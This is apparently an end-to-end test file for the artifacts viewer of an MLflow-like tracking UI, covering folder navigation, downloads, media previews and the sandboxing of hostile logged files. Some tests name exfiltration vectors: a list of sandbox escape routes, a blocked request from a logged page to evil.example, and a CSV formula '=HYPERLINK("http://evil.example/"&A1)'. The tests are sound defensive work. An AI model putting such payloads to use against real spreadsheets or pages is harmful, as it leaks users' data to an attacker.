import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type ArtifactsSeed, openFile, startArtifacts } from "./harness/artifacts-page.ts";
import { expectSound, expectSoundInBothThemes, type OurUi } from "./harness/our-ui.ts";

let ui: OurUi<ArtifactsSeed>;

beforeAll(async () => {
  ui = await startArtifacts();
});

afterAll(() => ui.stop());

test("the tree by keys: down into folders, back up, letters; the address holds the file", async () => {
  const opened = await openFile(ui, "");
  const { page } = opened;
  await page.getByRole("treeitem", { name: "nested", exact: true }).focus();
  await page.keyboard.press("ArrowRight");
  await page.getByRole("treeitem", { name: "deep" }).waitFor();
  await page.keyboard.press("ArrowRight");
  await page.keyboard.press("ArrowRight");
  await page.getByRole("treeitem", { name: "er", exact: true }).waitFor();
  await page.keyboard.press("ArrowLeft");
  await page.keyboard.press("ArrowLeft");
  await page.keyboard.press("c");
  await page.keyboard.press("Enter");
  await page.getByText("layers: [1, 2]").waitFor();
  expect(page.url()).toContain("path=config.yaml");
  const stored = await fetch(`${ui.server.url}/get-artifact?run_id=${ui.seed.run}&path=config.yaml`);
  const sha256 = createHash("sha256")
    .update(await stored.bytes())
    .digest("hex");
  await page.getByText(`SHA-256 ${sha256.slice(0, 8)}…`).waitFor();
  await page.getByRole("button", { name: "Copy the SHA-256" }).waitFor();
  await expectSound(opened);
  const deep = await openFile(ui, "nested/deep/er/MLmodel");
  await deep.page.getByText("artifact_path: model").waitFor();
  expect(await deep.page.getByRole("treeitem", { name: "MLmodel" }).getAttribute("aria-selected")).toBe("true");
});

test("artifacts that clients keep elsewhere: the page says where", async () => {
  const call = async (endpoint: string, message: object) => {
    const answer = await fetch(`${ui.server.url}/api/2.0/mlflow/${endpoint}`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify(message),
    });
    expect(answer.status).toBe(200);
    return (await answer.json()) as { experiment_id: string; run: { info: { run_id: string } } };
  };
  const { experiment_id } = await call("experiments/create", {
    name: "elsewhere",
    artifact_location: "s3://team-bucket/models",
  });
  const { run } = await call("runs/create", { experiment_id });
  const opened = await ui.open(`/experiments/${experiment_id}/runs/${run.info.run_id}?tab=artifacts`);
  await opened.page.getByRole("heading", { name: "The artifacts are not on this server" }).waitFor();
  const uri = `s3://team-bucket/models/${run.info.run_id}/artifacts`;
  await opened.page.getByText(uri, { exact: true }).waitFor();
  await opened.page.getByText(`mlflow.artifacts.download_artifacts("${uri}")`).waitFor();
  // The list is the only call that may fail on this page.
  expect(new Set(opened.trouble.failedCalls.splice(0).map(({ status }) => status))).toEqual(new Set([501]));
  await expectSoundInBothThemes(opened);
});

const ESCAPES = [
  ...["parent", "top", "cookie", "storage", "database", "fetch", "write", "xhr", "socket", "image", "script"],
  ...["eval", "worker", "popup"],
];

test("a logged page runs its scripts in a sandbox, and gets nowhere", async () => {
  await ui.context.addCookies([{ name: "session", value: "secret", url: ui.server.url }]);
  const { page, trouble } = await openFile(ui, "page.html");
  const dialogs: string[] = [];
  const failures: (string | undefined)[] = [];
  page.on("requestfailed", (request) => {
    if (new URL(request.url()).hostname === "evil.example") failures.push(request.failure()?.errorText);
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const frame = page.frameLocator("iframe");
  const refused = ESCAPES.map((way) => `${way} refused`).join(", ");
  await frame.getByRole("heading", { name: refused, exact: true }).waitFor();
  expect(await page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");
  expect(await page.title()).toMatch(/^files/);
  expect(page.url()).toContain("path=page.html");
  expect(dialogs).toEqual([]);
  // The only attempt was refused before a request left the browser.
  expect(trouble.foreignRequests).toEqual([expect.stringContaining("http://evil.example/")]);
  expect(failures).toEqual(["csp"]);
  const answer = await fetch(`${ui.server.url}/api/2.0/mlflow/experiments/get-by-name?experiment_name=hacked`);
  expect(answer.status).toBe(404);
  await page.getByRole("button", { name: "Source", exact: true }).click();
  await page.getByText("<h1 id=h>plot</h1>").waitFor();
  expect(page.url()).toContain("show=source");
});

test("opened by itself, a logged page is no part of the UI either", async () => {
  const page = await ui.context.newPage();
  await page.goto(`${ui.server.url}/ui-api/preview?run_id=${ui.seed.run}&path=page.html`);
  const heading = page.getByRole("heading");
  await expect.poll(() => heading.textContent()).toContain("fetch refused");
  expect(await heading.textContent()).toContain("cookie refused");
  expect(await heading.textContent()).toContain("write refused");
  expect(await page.evaluate("origin")).toBe("null");
  await page.close();
});

test.each(["page.html", "evil.svg", "doc.pdf", "readme.md"])(
  "%s asked for as a file is only a download",
  async (path) => {
    const page = await ui.context.newPage();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.goto(`${ui.server.url}/get-artifact?run_uuid=${ui.seed.run}&path=${path}`).catch(() => undefined),
    ]);
    expect(download.suggestedFilename()).toBe(path);
    expect(page.url()).toBe("about:blank");
    await page.close();
  },
);

test.each([
  ["evil.svg", "40 × 40 px"],
  ["readme.md", "Title"],
  ["broken.json", "This is no JSON"],
  ["bytes.bin", "Not text"],
  ["nothing.txt", "The file is empty."],
  ["plot.png", "32 × 32 px"],
  ["doc.pdf", "1 page"],
  ["train.py", "for a while."],
  ["broken.wav", "The sound could not be played"],
])("%s is shown in light and dark, and nothing of it runs", async (path, text) => {
  const opened = await openFile(ui, path);
  await opened.page.locator("main").getByText(text, { exact: false }).last().waitFor();
  expect(await opened.page.title()).toMatch(/^files/);
  expect(await opened.page.locator("main :is(script, iframe, object, embed)").count()).toBe(0);
  await expectSoundInBothThemes(opened);
});

test("a formula in a CSV is text, and the download is what was logged", async () => {
  const opened = await openFile(ui, "formula.csv");
  const { page } = opened;
  const formula = '=HYPERLINK("http://evil.example/"&A1)';
  await page.getByRole("cell", { name: formula, exact: true }).waitFor();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Download", exact: true }).click(),
  ]);
  expect(await readFile(await download.path(), "utf8")).toBe(`a,b\n1,"${formula.replaceAll('"', '""')}"\n`);
  await expectSound(opened);
});

test("a file whose name is markup is a name; downloads keep it", async () => {
  const opened = await openFile(ui, ui.seed.hostileFile);
  const { page } = opened;
  await page.getByText("hostile name", { exact: true }).waitFor();
  await page.getByRole("heading", { name: ui.seed.hostileFile, exact: true }).waitFor();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Download", exact: true }).click(),
  ]);
  expect(await readFile(await download.path(), "utf8")).toBe("hostile name");
  await expectSound(opened);
});

test("sound is read from where it is played", async () => {
  const opened = await openFile(ui, "sound.wav");
  const { page } = opened;
  const ranges: string[] = [];
  page.on("request", (request) => ranges.push(request.headers().range ?? ""));
  const seek = `new Promise((done) => {
    const sound = document.querySelector("audio");
    const go = () => { sound.addEventListener("seeked", () => done(sound.duration)); sound.currentTime = 590 };
    if (sound.readyState > 0) go(); else sound.addEventListener("loadedmetadata", go);
  })`;
  await page.locator("audio").waitFor();
  expect(await page.evaluate(seek)).toBe(600);
  await expect.poll(() => ranges.some((range) => /^bytes=9\d{6}-/.test(range))).toBe(true);
  await expectSound(opened);
});

test("a folder is open in the tree, registers its model, and is downloaded as a ZIP", async () => {
  const opened = await openFile(ui, "nested/deep/er");
  const { page } = opened;
  const folder = page.getByRole("treeitem", { name: "er", exact: true });
  await page.getByRole("treeitem", { name: "MLmodel" }).waitFor();
  expect(await folder.getAttribute("aria-expanded")).toBe("true");
  await page.getByRole("button", { name: "MLmodel", exact: true }).waitFor();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Download", exact: true }).click(),
  ]);
  expect(download.suggestedFilename()).toBe("er.zip");
  const bytes = (await readFile(await download.path())).toString("latin1");
  expect(bytes).toContain("er/MLmodelartifact_path: model");
  await page.getByRole("button", { name: "Register the model", exact: true }).click();
  await page.getByRole("dialog").getByText("nested/deep/er").waitFor();
  await page.getByLabel("Model", { exact: true }).fill("from-folder");
  await page.getByRole("button", { name: "Register", exact: true }).click();
  await page.getByText("Registered version 1 of from-folder.").waitFor();
  await expectSound(opened);
});

test("images by step, beside those of runs that are chosen by keys", async () => {
  const opened = await openFile(ui, "images");
  const { page } = opened;
  await page.getByRole("heading", { name: "val/sample", exact: true }).waitFor();
  await page.getByText("Step 20", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Other runs", exact: true }).press("Enter");
  await page.getByRole("searchbox", { name: "Find a run by its name", exact: true }).fill("OTH");
  await page.getByRole("checkbox", { name: "no files", exact: true }).waitFor({ state: "detached" });
  await page.getByRole("checkbox", { name: "other", exact: true }).press("Space");
  await page.keyboard.press("Escape");
  await page.getByRole("img", { name: "val/sample, step 20", exact: true }).nth(1).waitFor();
  await page.getByRole("slider", { name: "Step", exact: true }).focus();
  await page.keyboard.press("ArrowLeft");
  await page.getByRole("img", { name: "val/sample, step 10", exact: true }).nth(1).waitFor();
  expect(page.url()).toContain("step=10");
  await expectSoundInBothThemes(opened);
  // Another image is beside the same run's image.
  await page.getByRole("treeitem", { name: "plots" }).click();
  await page.getByRole("treeitem", { name: "one.png" }).click();
  await page.getByRole("img", { name: "plots/one.png", exact: true }).nth(1).waitFor();
  expect(page.url()).toContain(`runs=${ui.seed.other}`);
  await page.setViewportSize({ width: 390, height: 844 });
  expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(390);
  await expectSound(opened);
});

test("the root downloads all files; a phone lists them once, in the tree", async () => {
  const { page } = await openFile(ui, "");
  await page.getByRole("row", { name: /page\.html/ }).waitFor();
  const [zip] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Download", exact: true }).click(),
  ]);
  expect(zip.suggestedFilename()).toBe(`${ui.seed.run}.zip`);
  await page.setViewportSize({ width: 390, height: 844 });
  await page.getByRole("row", { name: /page\.html/ }).waitFor({ state: "hidden" });
  await page.getByRole("treeitem", { name: "page.html" }).click();
  await page.getByText("page.html", { exact: true }).nth(1).waitFor();
});

test("a path that is not there says so", async () => {
  const opened = await openFile(ui, "none.txt");
  await opened.page.getByRole("heading", { name: "There is no such file", exact: true }).waitFor();
  await expectSound(opened);
});
